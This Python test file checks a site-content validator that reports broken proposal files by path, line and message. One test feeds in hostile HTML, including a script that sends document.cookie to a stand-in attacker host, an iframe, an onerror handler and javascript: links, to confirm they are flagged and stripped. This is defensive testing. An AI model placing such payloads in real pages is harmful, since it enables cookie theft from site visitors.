"""Proposals: one broken fixture per problem, each asserting path, line and message; and what builds."""

from __future__ import annotations

import datetime as dt
import json

import pytest

from content_fixtures import proposal_text, write_raw
from joinedup.core.markup import render_body
from joinedup.load.repository import load_repository

TODAY = dt.date(2026, 11, 23)


@pytest.fixture
def repo(site):
    """A site with two volunteers (ana-lopez, bethan-price) and one group (better-buses)."""
    site.profile("ana-lopez")
    site.profile("bethan-price", name="Bethan Price", github="bethan-price")
    from content_fixtures import group_text

    site.write("content/groups/better-buses.md", group_text())
    return site


def problems_of(site, path=None):
    _, found = load_repository(site.root, build_date=TODAY)
    return [p for p in found if path is None or p.path == path]


def only(found, code):
    matching = [p for p in found if p.code == code]
    assert len(matching) == 1, [p.format_text() for p in found]
    return matching[0]


def test_valid_proposal_loads_with_no_problems(repo):
    repo.write("content/proposals/free-buses.md", proposal_text(group="better-buses"))
    repository, found = load_repository(repo.root, build_date=TODAY)
    assert found == []
    proposal = repository.agenda.proposals["free-buses"]
    assert (proposal.title, proposal.status, proposal.authors, proposal.group) == (
        "Free buses for everyone under 25", "draft", ("ana-lopez",), "better-buses")
    assert proposal.date == dt.date(2026, 10, 1)


def test_unknown_status_lists_the_allowed_ones_at_its_line(repo):
    repo.write("content/proposals/free-buses.md", proposal_text(status="consulation"))
    problem = only(problems_of(repo), "JU400")
    assert (problem.path, problem.line, problem.col) == ("content/proposals/free-buses.md", 5, 1)
    assert problem.message == (
        "Unknown status 'consulation'. Did you mean 'consultation'? The status must be one of: "
        "draft, consultation, synthesis, adopted, not-adopted, withdrawn."
    )


def test_unclosed_front_matter_is_reported_at_the_opening_line_with_where_the_text_starts(repo):
    write_raw(repo.root, "content/proposals/free-buses.md",
              "---\ntitle: Free buses\nsummary: Free.\n\nThe text of the proposal starts here.\n")
    problem = only(problems_of(repo), "JU402")
    assert (problem.path, problem.line) == ("content/proposals/free-buses.md", 1)
    assert problem.message == "The front matter that starts on line 1 is never closed with a '---' line."
    assert problem.hint == "Add a line with only '---' before line 5, where the text seems to start."


def test_file_without_front_matter_is_refused(repo):
    write_raw(repo.root, "content/proposals/free-buses.md", "# Free buses\n\nJust text.\n")
    problem = only(problems_of(repo), "JU401")
    assert (problem.path, problem.line) == ("content/proposals/free-buses.md", 1)
    assert "does not start with a '---' line" in problem.message


def test_schema_error_in_front_matter_points_at_the_key_line(repo):
    repo.write("content/proposals/free-buses.md", proposal_text(date="2026-02-30", colour="red"))
    found = problems_of(repo)
    bad_date = only(found, "JU107")
    assert (bad_date.line, bad_date.message) == (4, "'date' is '2026-02-30', which is not a real date.")
    unknown = only(found, "JU100")
    assert (unknown.line, unknown.message) == (8, "Unknown key 'colour'.")


def test_unknown_author_is_refused_with_the_item_line_and_a_suggestion(repo):
    repo.write("content/proposals/free-buses.md", proposal_text(authors="\n  - ana-lopez\n  - bethan-prise"))
    problem = only(problems_of(repo), "JU403")
    assert (problem.path, problem.line, problem.col) == ("content/proposals/free-buses.md", 9, 5)
    assert problem.message == (
        "Unknown author 'bethan-prise': there is no volunteers/bethan-prise.yaml. Did you mean 'bethan-price'?"
    )


def test_unknown_group_is_refused_at_its_line(repo):
    repo.write("content/proposals/free-buses.md", proposal_text(group="beter-buses"))
    problem = only(problems_of(repo), "JU406")
    assert (problem.line, problem.col) == (8, 1)
    assert problem.message == (
        "Unknown group 'beter-buses': there is no content/groups/beter-buses.md. Did you mean 'better-buses'?"
    )


def test_unknown_theme_and_needed_skill_are_refused_with_suggestions(repo):
    repo.write("content/proposals/free-buses.md", proposal_text(themes="[transprt]", needs="[gis-maping]"))
    found = problems_of(repo)
    assert only(found, "JU103").message == "Unknown theme 'transprt'. Did you mean 'transport' (Transport)?"
    skill = only(found, "JU101")
    assert (skill.line, skill.message) == (8, "Unknown skill 'gis-maping'. Did you mean 'gis-mapping' (GIS and mapping)?")


def test_a_proposal_that_synthesises_itself_is_an_error(repo):
    repo.write("content/proposals/plan.md", proposal_text(status="synthesis", synthesises="[other, plan]"))
    repo.write("content/proposals/other.md", proposal_text(title="Other"))
    problem = only(problems_of(repo), "JU408")
    assert (problem.path, problem.line, problem.col) == ("content/proposals/plan.md", 8, 22)
    assert problem.message == "The proposal 'plan' lists itself under 'synthesises'."


def test_synthesis_of_an_unknown_proposal_is_an_error(repo):
    repo.write("content/proposals/plan.md", proposal_text(synthesises="[free-buss]"))
    repo.write("content/proposals/free-buses.md", proposal_text(title="Free"))
    problem = only(problems_of(repo), "JU404")
    assert (problem.path, problem.line) == ("content/proposals/plan.md", 8)
    assert problem.message == ("'synthesises' names 'free-buss', which is not a proposal: there is no "
                               "content/proposals/free-buss.md. Did you mean 'free-buses'?")


def test_a_synthesis_cycle_is_reported_once_with_the_whole_loop(repo):
    repo.write("content/proposals/a-plan.md", proposal_text(title="A", synthesises="[b-plan]"))
    repo.write("content/proposals/b-plan.md", proposal_text(title="B", synthesises="\n  - c-plan"))
    repo.write("content/proposals/c-plan.md", proposal_text(title="C", synthesises="[a-plan]"))
    problem = only(problems_of(repo), "JU407")
    assert (problem.path, problem.line, problem.col) == ("content/proposals/a-plan.md", 8, 15)
    assert problem.message == (
        "Synthesis cycle: a-plan → b-plan → c-plan → a-plan. "
        "A synthesis cannot merge a proposal that merges it back."
    )


def test_hostile_html_in_the_body_is_reported_per_line_and_never_published(repo):
    body = (
        "A fair point.\n"
        "<script>fetch('https://evil.example.org/?' + document.cookie)</script>\n"
        '<iframe src="https://evil.example.org/"></iframe>\n'
        '<img src="https://example.org/bus.png" onerror="alert(1)">\n'
        "[Read more](javascript:alert(document.domain))\n"
        "Some <u>underlined</u> words and `<script>` in code.\n"
    )
    repo.write("content/proposals/free-buses.md", proposal_text(body=body))
    found = problems_of(repo)
    # The front matter is lines 1-8, the blank line 9: the body starts on line 10.
    where = sorted((p.line, p.code) for p in found)
    assert where == [(11, "JU409"), (12, "JU409"), (13, "JU207"), (13, "JU409"), (14, "JU203"), (15, "JU204")]
    by_line = {p.line: p for p in found}
    assert by_line[11].message == ("The text contains a <script> element; scripts, frames, forms and "
                                   "embedded objects are never published.")
    assert by_line[13].message == "The text contains an event handler ('onerror='); scripts never run on the site."
    assert by_line[14].message == ("The text links to 'javascript:alert(document.domain'; only https://, "
                                   "http:// and mailto: links are allowed.")
    assert by_line[15].severity == "warning"

    html = str(render_body(body))
    for hostile in ("<script", "<iframe", "onerror", "javascript:", "<u>"):
        assert hostile not in html
    assert "&lt;script&gt;" in html  # the code span is shown as text
    assert "bus.png" not in html  # an image from another site, with or without its handler


def test_consultation_needs_a_closing_date_and_a_passed_one_is_a_warning(repo):
    repo.write("content/proposals/open.md", proposal_text(status="consultation"))
    repo.write("content/proposals/closed.md", proposal_text(title="Closed", status="consultation",
                                                            consultation_closes="2026-11-01"))
    found = problems_of(repo)
    missing = only(found, "JU104")
    assert (missing.path, missing.line) == ("content/proposals/open.md", 5)
    assert missing.message == ("A proposal in consultation needs 'consultation_closes', "
                               "the last day of the consultation.")
    closed = only(found, "JU411")
    assert (closed.path, closed.line, closed.severity) == ("content/proposals/closed.md", 8, "warning")
    assert closed.message == "The consultation closed on 2026-11-01, but the status is still 'consultation'."


def test_bad_file_names_are_refused(repo):
    repo.write("content/proposals/Free Buses.md", proposal_text())
    repo.write("content/proposals/page.md", proposal_text(title="Page"))
    repo.write("content/proposals/notes.txt", "notes")
    found = problems_of(repo)
    assert {(p.path, p.code) for p in found} == {
        ("content/proposals/Free Buses.md", "JU012"),
        ("content/proposals/page.md", "JU015"),
        ("content/proposals/notes.txt", "JU012"),
    }
    assert only(found, "JU015").message == "The id 'page' is reserved for the site's own pages."


def test_check_prints_file_line_and_exits_1_for_a_broken_proposal(repo):
    repo.write("content/proposals/free-buses.md", proposal_text(status="approved"))
    result = repo.tasks("check")
    assert result.returncode == 1
    assert result.stdout.startswith("content/proposals/free-buses.md:5:1: JU400 Unknown status 'approved'.")

    as_json = json.loads(repo.tasks("check", "--format", "json").stdout)
    assert [(p["path"], p["line"], p["code"]) for p in as_json] == [("content/proposals/free-buses.md", 5, "JU400")]


def test_check_of_one_changed_proposal_reports_only_that_file(repo):
    repo.write("content/proposals/good.md", proposal_text())
    repo.write("content/proposals/bad.md", proposal_text(status="approved"))
    result = repo.tasks("check", "content/proposals/good.md")
    assert result.returncode == 0, result.stdout
    result = repo.tasks("check", "content/proposals/bad.md")
    assert result.returncode == 1
    assert "content/proposals/bad.md:5:1: JU400" in result.stdout


def test_two_proposals_whose_titles_give_the_same_slug_both_build(repo):
    repo.write("content/proposals/free-buses.md", proposal_text(title="Free buses!"))
    repo.write("content/proposals/free-buses-for-all.md", proposal_text(title="Free  Buses"))
    warning = only(problems_of(repo), "JU410")
    assert (warning.path, warning.line, warning.severity) == ("content/proposals/free-buses-for-all.md", 2, "warning")
    assert warning.message == ("The title 'Free Buses' matches the title of content/proposals/free-buses.md "
                               "('Free buses!'): readers cannot tell the two apart.")
    # Both pages exist, each at its file name: the slug never comes from the title.
    result = repo.tasks("build", "--output", str(repo.root / "out"))
    assert result.returncode == 0, result.stderr
    assert "Free buses!" in repo.read("out/proposals/free-buses/index.html")
    assert "<h1>Free Buses</h1>" in repo.read("out/proposals/free-buses-for-all/index.html")


def test_identical_titles_are_a_warning_and_both_still_build(repo):
    repo.write("content/proposals/buses-a.md", proposal_text())
    repo.write("content/proposals/buses-b.md", proposal_text())
    warning = only(problems_of(repo), "JU410")
    assert (warning.path, warning.line) == ("content/proposals/buses-b.md", 2)
    assert warning.message == ("The title 'Free buses for everyone under 25' matches the title of "
                               "content/proposals/buses-a.md ('Free buses for everyone under 25'): "
                               "readers cannot tell the two apart.")
    result = repo.tasks("build", "--output", str(repo.root / "out"))
    assert result.returncode == 0, result.stderr
    assert (repo.root / "out/proposals/buses-a/index.html").is_file()
    assert (repo.root / "out/proposals/buses-b/index.html").is_file()


def test_file_names_ending_in_digits_both_build(repo):
    repo.write("content/proposals/plan-1.md", proposal_text(title="Plan one"))
    repo.write("content/proposals/plan-12.md", proposal_text(title="Plan twelve"))
    assert problems_of(repo) == []
    result = repo.tasks("build", "--output", str(repo.root / "out"))
    assert result.returncode == 0, result.stderr
    assert "<h1>Plan one</h1>" in repo.read("out/proposals/plan-1/index.html")
    assert "<h1>Plan twelve</h1>" in repo.read("out/proposals/plan-12/index.html")


def test_new_proposal_scaffolds_a_file_that_check_accepts(repo):
    result = repo.tasks("new", "proposal", "--slug", "free-buses", "--title", 'Free buses: "now"',
                        "--summary", "Free buses for under-25s.", "--theme", "transport",
                        "--author", "ana-lopez", "--group", "better-buses")
    assert result.returncode == 0, result.stderr
    assert "Wrote content/proposals/free-buses.md." in result.stdout
    repository, found = load_repository(repo.root, build_date=TODAY)
    # Valid, with a warning on each line written for the authors to replace.
    assert [(p.code, p.severity) for p in found] == [("JU416", "warning")] * 3
    text = repo.read("content/proposals/free-buses.md").splitlines()
    assert [text[p.line - 1] for p in found] == [
        "What is wrong today, for whom, and how we know.",
        "The change, in plain words. Be specific: who does what, by when, paid for how.",
        "The first steps, and who could take them."]
    proposal = repository.agenda.proposals["free-buses"]
    assert (proposal.title, proposal.status, proposal.group) == ('Free buses: "now"', "draft", "better-buses")
    assert proposal.date == TODAY  # SOURCE_DATE_EPOCH pins the build date in site.tasks
    assert repo.tasks("check").returncode == 0


def test_new_proposal_with_an_unknown_author_writes_nothing(repo):
    result = repo.tasks("new", "proposal", "--slug", "free-buses", "--title", "Free buses",
                        "--summary", "Free.", "--theme", "transport", "--author", "nobody-here")
    assert result.returncode == 1
    assert "JU403 Unknown author 'nobody-here'" in result.stdout
    assert not (repo.root / "content/proposals/free-buses.md").exists()


def test_new_proposal_asks_for_what_the_flags_do_not_give(repo):
    answers = "Votes at 16\n\nLower the voting age.\ndemocracy\nana-lopez\n"
    import subprocess
    import sys

    from conftest import BUILD_EPOCH, REPO

    result = subprocess.run(
        [sys.executable, str(REPO / "tasks.py"), "--root", str(repo.root), "new", "proposal"],
        input=answers, capture_output=True, text=True, env={"SOURCE_DATE_EPOCH": BUILD_EPOCH, "PATH": "/usr/bin"},
    )
    assert result.returncode == 0, result.stdout + result.stderr
    text = repo.read("content/proposals/votes-at-16.md")
    assert text.startswith('---\ntitle: "Votes at 16"\nsummary: "Lower the voting age."\ndate: 2026-11-23\n'
                           "status: draft\nthemes: [democracy]\nauthors: [ana-lopez]\n---\n")


def test_build_with_a_broken_proposal_prints_file_and_line_and_publishes_nothing(repo):
    repo.write("content/proposals/free-buses.md", proposal_text(body="Fine.\n<iframe src='https://example.org'></iframe>\n"))
    output = repo.root / "out"
    result = repo.tasks("build", "--output", str(output))
    assert result.returncode == 1
    assert "content/proposals/free-buses.md:11:1: JU409 The text contains a <iframe> element" in result.stdout
    assert not output.exists()


def test_kept_checks_still_report_problems_and_cross_checks_follow_the_other_files(repo):
    """A load keeps each file's parse, schema and privacy findings in the cache folder by its text; the
    next load must report them again, and must redo the checks that depend on other files."""
    repo.write("content/proposals/free-buses.md",
               proposal_text("See [this](javascript:alert(1)).\n", authors="[ana-lopez, cy-new]"))
    first = problems_of(repo, "content/proposals/free-buses.md")
    assert (repo.cache / "content-checks.pickle").is_file()
    second = problems_of(repo, "content/proposals/free-buses.md")
    assert [p.format_text() for p in second] == [p.format_text() for p in first]
    assert sorted(p.code for p in second) == ["JU203", "JU403"]  # the link (kept), the unknown author
    # The unknown author joins: the proposal's text is the same, its cross-check is not.
    repo.profile("cy-new", name="Cy New", github="cy-new")
    third = problems_of(repo, "content/proposals/free-buses.md")
    assert [p.code for p in third] == ["JU203"]


def test_bodies_converted_ahead_are_kept_for_the_next_build_as_sanitised_html():
    from joinedup.core import markup

    texts = [f"## Part {n}\n\nSome *text* with [a link](https://example.org/{n}) and <script>x</script>.\n"
             for n in range(3)]
    bodies = markup.ConvertedBodies()
    with markup.bodies_in_use(bodies):
        markup.convert_bodies([*texts, texts[0]])
    converted = bodies.kept([*texts, "A body this build never converted.\n"])
    assert converted == {text: str(markup.convert_body(text)) for text in texts}
    assert "<script>" not in converted[texts[0]] and 'href="https://example.org/0"' in converted[texts[0]]
